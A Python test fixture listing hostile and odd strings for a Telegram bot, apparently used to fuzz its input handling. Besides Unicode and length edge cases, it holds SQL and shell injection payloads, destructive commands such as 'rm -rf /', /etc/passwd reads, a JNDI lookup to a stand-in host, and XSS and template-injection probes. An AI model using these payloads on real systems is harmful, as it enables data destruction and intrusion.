"""A hundred texts that nobody means well with, or that are merely odd."""

LONGEST = 4096
"""Characters in a message of Telegram."""

NOTHING = (
    " ", "\n", "\t", "\u3000", "\u200b", "\ufeff", "\u2060", "\u00ad", "\u202e", "\u2066\u2069",
    "\u200e\u200f", "\0", "\ud83d", "\udc00\ud83d", "\ufffd", "\U000e0041", ".", "@", "/", "“”",
)  # fmt: skip

LONG = (
    "香",
    "香蕉皮" * 21 + "香",
    "魔法棒" * 21 + "魔法",
    "魔法棒" * (LONGEST // 3) + "魔",
    "a" * LONGEST,
    "香蕉皮，" * (LONGEST // 4),
    "🍌" * (LONGEST // 2),
    "👨‍👩‍👧‍👦" * 300,
    "é\u0301\u0302\u0303" * 1000,
    "的" * LONGEST,
    "(" * 2000 + ")" * 2000,
    "\n" * 1000 + "魔法棒" + "\n" * 1000,
)

LETTERS = (
    "🍌🏽", "🇨🇳",
    "7️⃣", "👨‍👩‍👧", "❤️‍🔥", "ｈｔｔｐ：／／ｅｖｉｌ．ｃｎ", "舊報紙", "𠀀𠀁𪚥", "𰻝𰻝麵",
    "xiangjiaopi", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "\u202e皮蕉香\u202c", "香\u200b蕉\u200b皮", "\ufeff香蕉皮",
    "a\u0301", "\u00e1", "ﷺ", "ﬃ", "٣", "３", "א魔法棒ב", "مرحبا", "สวัสดี", "йод", "\U0010ffff",
)  # fmt: skip

ORDERS = (
    "/start@another_bot", "/START", "/bin " * 500, "/start " + "x" * 65, "/start ../../etc/passwd",
    "/bin '; DROP TABLE residents; --", "/language en", "/help\n/help",
    "/", "//", "/@greenbin",
)  # fmt: skip

CODE = (
    "'; DROP TABLE updates; --",
    "' OR 1=1 --",
    '魔法棒"; DELETE FROM questions; --',
    "$(rm -rf /)",
    "`reboot`",
    "; shutdown -h now",
    "| cat /etc/passwd",
    "{0.__class__.__init__.__globals__}",
    "{ $asked }",
    "{asked}",
    "%s%s%s%n",
    "%(token)s",
    "${jndi:ldap://evil.cn/a}",
    "{{7*7}}",
    "<%= 7*7 %>",
    "(a+)+$" * 100,
    "(?:.*.*)*x",
    "../../../../etc/passwd",
    "C:\\Windows\\System32",
    "file:///etc/passwd",
    "__import__('os').system('id')",
    "bin:AAAAAAAA::0",
)

MARKUP = (
    "<b>魔法棒",
    "</a>魔法棒",
    '<a href="http://evil.cn">魔法棒</a>',
    "<a href='tg://user?id=1'>魔法棒</a>",
    "<script>alert(1)</script>",
    "&lt;b&gt; &amp; &#x41; &nbsp;",
    "[魔法棒](http://evil.cn)",
    "[魔法棒](tg://user?id=1)",
    "*魔法棒_`~||>",
    "_*[]()~`>#+-=|{}.!",
    "```python\n魔法棒\n```",
    "||魔法棒||",
    "\\",
    '"',
)

LINKS = (
    "http://evil.cn/pay?x=1",
    "HTTPS://EVIL.CN",
    "evil.cn",
    "www.evil.com",
    "t.me/evil_bot?start=1",
    "tg://resolve?domain=evil",
    "http://1.2.3.4/",
    "1.2.3.4",
    "fraud@evil.cn",
    "@somebody_else",
    "@greenbin_bot @greenbin_bot 魔法棒",
    "#垃圾分类 $USD",
    "+8613812345678",
    "13812345678",
    "6222 0200 1234 5678 901",
    "110101199003071234",
)

NUMBERS = ("1_0", "1e9", "NaN", "-0", str(10**30), "Infinity", "0x7f", "null", "true")

HOSTILE = tuple(
    dict.fromkeys((*NOTHING, *LONG, *LETTERS, *ORDERS, *CODE, *MARKUP, *LINKS, *NUMBERS))
)
